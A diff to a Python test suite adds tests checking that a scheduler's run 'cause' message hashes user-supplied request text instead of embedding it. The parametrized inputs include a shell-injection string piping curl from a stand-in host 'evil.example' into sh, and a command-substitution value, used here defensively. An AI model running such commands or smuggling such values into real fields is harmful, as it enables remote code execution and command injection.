@@ -1,5 +1,6 @@
 """A policy's life, pass by pass: causes become runs once, limits hold, and what happens is said."""
 
+import re
 from datetime import timedelta
 from typing import Any
 
@@ -350,6 +351,16 @@ class TestRequests:
         team = Team(a_policy()).request("x" * 100_000).settle().settle()
         assert team.made == ["churn-1"]
         assert team.status["lastRequest"].startswith("sha256:")
+
+    @pytest.mark.parametrize("asked", ["'; curl evil.example | sh; '", "$(run.value)`id`", "one\ntwo", "$HOME", "é"])
+    def test_writes_no_line_of_a_script_in_the_words_of_its_cause(self, asked: str) -> None:
+        cause = Team(a_policy()).request(asked).settle().status["runs"][0]["cause"]
+        assert cause["request"] == asked
+        assert re.fullmatch(r"asked for by hand \(sha256:[0-9a-f]{64}\)", cause["message"])
+
+    def test_is_named_in_the_words_of_its_cause(self) -> None:
+        cause = Team(a_policy()).request("ada-2026-11-21T10:00:00Z").settle().status["runs"][0]["cause"]
+        assert cause["message"] == "asked for by hand (ada-2026-11-21T10:00:00Z)"
 
 
 class TestTrouble:
